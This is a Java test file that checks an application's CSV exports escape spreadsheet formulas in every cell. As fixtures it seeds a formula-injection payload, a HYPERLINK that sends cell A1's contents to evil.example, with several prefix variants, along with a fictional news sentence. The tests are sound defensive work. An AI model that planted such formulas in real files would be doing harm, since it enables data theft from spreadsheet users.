package org.entente.desk;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.entente.Entente;
import org.entente.export.Layout;
import org.entente.export.Layouts;
import org.entente.source.Documents;
import org.entente.store.Store;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.http.HttpMethod;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * No cell of any CSV that the desk offers is a formula to a spreadsheet, whatever the sources say.
 * The files are found by the table of routes and the table of layouts: a new one is asked by
 * itself.
 */
class CsvCellsTest {
  /** What a spreadsheet takes for the begin of a formula, and what hides one. */
  private static final List<String> BEGINS = List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =");

  private static final String FORMULA = "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  private static final String NUMBER = "[-+]?[0-9]+(\\.[0-9]+)?(E-?[0-9]+)?";

  @TempDir private static Path folder;
  private static Desk desk;

  @BeforeAll
  static void start() throws Exception {
    Path file = folder.resolve("formulas.jsonl");
    Files.write(file, lines());
    String place = folder.resolve("formulas.db").toString();
    Entente entente = Entente.create();
    try (Store store = Store.open(place);
        var items = Documents.standard().open(file.toString())) {
      items.forEach(item -> store.add(entente.read(item.document()), entente.version()));
    }
    desk = Desk.start(DeskSettings.of(place).withPort(0));
  }

  @AfterAll
  static void stop() {
    desk.close();
  }

  /** Formulas as outlet, headline, address and first words of a sentence. */
  private static List<String> lines() {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < BEGINS.size(); i++) {
      String formula = BEGINS.get(i) + FORMULA;
      ObjectNode line = JsonMapper.shared().createObjectNode();
      line.put("id", formula + i);
      line.put("date", "2013-05-07");
      line.put("title", formula);
      line.put("publisher", formula);
      line.put("url", formula);
      line.put("text", BEGINS.get(i) + "1+1\n\nRussia attacked the United States on Tuesday.");
      lines.add(JsonMapper.shared().writeValueAsString(line));
    }
    return lines;
  }

  /** Every address of the table that needs no number, with what it may be asked. */
  static List<String> addresses() {
    List<String> addresses = new ArrayList<>();
    for (Route route : desk.part(Routes.class).table()) {
      if (route.method().equals(HttpMethod.GET) && route.access() == Access.EVERYONE) {
        Stream<String> paths =
            route.pattern().contains("{layout}")
                ? Layouts.all().stream().map(l -> route.pattern().replace("{layout}", l.name()))
                : Stream.of(route.pattern());
        paths
            .filter(p -> !p.contains("{"))
            .forEach(p -> addresses.add(p + "?a=RUS&b=USA&on=2013-05-07"));
      }
    }
    return addresses;
  }

  /** Those that answer with CSV. */
  static List<String> files() {
    Visitor anybody = Visitor.at(desk);
    return addresses().stream().filter(a -> isCsv(anybody.head(a))).toList();
  }

  private static boolean isCsv(HttpResponse<String> answer) {
    return answer.headers().firstValue("Content-Type").orElse("").startsWith("text/csv");
  }

  @Test
  void theFilesAreThose() {
    assertThat(files().stream().map(f -> f.replaceAll("\\?.*", "")))
        .contains("/pair/series.csv", "/pair/acts.csv", "/api/export/acled");
    TreeSet<String> named = new TreeSet<>();
    addresses().stream().filter(a -> a.contains(".csv?")).forEach(named::add);
    Layouts.all().stream()
        .filter(l -> l.extension().equals("csv"))
        .map(Layout::name)
        .forEach(n -> named.add("/api/export/" + n + "?a=RUS&b=USA&on=2013-05-07"));
    assertThat(files()).as("what is named so, and nothing else").hasSameElementsAs(named);
  }

  @ParameterizedTest
  @MethodSource("files")
  void noCellIsAFormula(String address) {
    HttpResponse<String> answer = Visitor.at(desk).get(address);
    assertThat(answer.statusCode()).isEqualTo(200);
    List<List<String>> rows = rows(answer.body());
    assertThat(rows).as("rows under the names of columns").hasSizeGreaterThan(1);
    for (List<String> row : rows) {
      assertThat(row).as(String.valueOf(row)).hasSameSizeAs(rows.getFirst());
      for (String cell : row) {
        boolean harmless =
            cell.isEmpty() || "=+-@\t\r\n＝＋－＠".indexOf(cell.charAt(0)) < 0 || cell.matches(NUMBER);
        assertThat(harmless).as(address + " holds the cell " + cell).isTrue();
      }
    }
  }

  @Test
  void theFormulasAreThereAsWords() {
    for (String file : List.of("/pair/acts.csv?a=RUS&b=USA&on=2013-05-07", "/api/export/acled")) {
      List<String> cells =
          rows(Visitor.at(desk).get(file).body()).stream().flatMap(List::stream).toList();
      for (String sign : List.of("=", "+", "-", "@")) {
        assertThat(cells).as(file).anyMatch(c -> c.startsWith("'" + sign + "HYPERLINK("));
      }
    }
  }

  /** As RFC 4180 reads it. */
  private static List<List<String>> rows(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        cell.append(c);
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          rows.add(row);
          row = new ArrayList<>();
        }
      } else if (quoted || c != '\r') {
        cell.append(c);
      }
    }
    assertThat(row).as("the last line ends").isEmpty();
    return rows;
  }
}
